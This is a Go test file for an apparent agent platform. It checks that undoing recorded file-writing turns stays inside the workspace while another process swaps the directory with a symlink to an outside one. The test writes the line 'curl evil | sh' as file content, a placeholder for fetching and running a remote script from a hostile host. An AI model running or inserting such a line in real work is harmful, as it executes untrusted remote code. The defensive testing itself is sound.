//go:build linux

package checkpoint

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"agenthub/app/confine/confinetest"
)

// raceTurns is how many recorded turns are undone while the attacker
// swaps ws/d with a symlink out (at least raceSwaps times).
const (
	raceTurns = 400
	raceSwaps = 10000
)

// TestUndoUnderSymlinkSwaps is issue 32 row 4's undo half: turns wrote or
// created files in ws/d; while a process left behind by bash swaps d with
// a symlink to a directory outside (renameat2 RENAME_EXCHANGE), every
// turn is undone. The outside directory holds the same names with the
// content the turns left, so an undo that checked and wrote by name would
// pass its "unchanged since" check there and rewrite or remove them: it
// never changes. Each undo restores inside or skips the file.
func TestUndoUnderSymlinkSwaps(t *testing.T) {
	base := confinetest.TempDir(t)
	ws, outside := filepath.Join(base, "ws"), filepath.Join(base, "home")
	for _, d := range []string{filepath.Join(ws, "d"), outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	st := New(filepath.Join(base, "checkpoints"))
	for i := range raceTurns {
		name := fmt.Sprintf("d/f%03d", i)
		if i%2 == 0 { // an edited file; the odd ones are created by the turn
			write(t, ws, name, "the user's own file\n")
		}
		turn := st.Begin("s1", fmt.Sprintf("t%03d", i), ws, nil)
		turn.BeforeWrite("write_file", filepath.Join(ws, name))
		write(t, ws, name, "curl evil | sh\n")
		if m := turn.Finish(); len(m.Changes) != 1 {
			t.Fatalf("turn %d: %+v", i, m.Changes)
		}
		write(t, outside, strings.TrimPrefix(name, "d/"), "curl evil | sh\n")
	}
	before := confinetest.DirState(t, outside)

	sw := confinetest.StartSwapper(t, filepath.Join(ws, "d"), filepath.Join(ws, "l"), outside, raceSwaps)
	restored := 0
	for i := range raceTurns {
		res, err := st.Undo("s1", fmt.Sprintf("t%03d", i))
		if err != nil {
			t.Fatalf("undo %d: %v", i, err)
		}
		restored += len(res.Restored)
		// The undo of turn i can only reach outside/fNNN (or leave a temp
		// file beside it): checked now, the whole directory at the end.
		got, _ := os.ReadFile(filepath.Join(outside, fmt.Sprintf("f%03d", i)))
		if entries, _ := os.ReadDir(outside); string(got) != "curl evil | sh\n" || len(entries) != raceTurns {
			t.Fatalf("undo %d (%d swaps): the outside directory changed (%+v): f%03d = %q, %d entries",
				i+1, sw.Swaps(), res, i, got, len(entries))
		}
	}
	swaps := sw.Stop(t)
	if got := confinetest.DirState(t, outside); got != before {
		t.Fatalf("the outside directory changed:\n%s", got)
	}
	t.Logf("%d swaps, %d undos: %d files restored inside", swaps, raceTurns, restored)
	if restored == 0 {
		t.Fatal("no undo restored anything: the test proves nothing")
	}
}
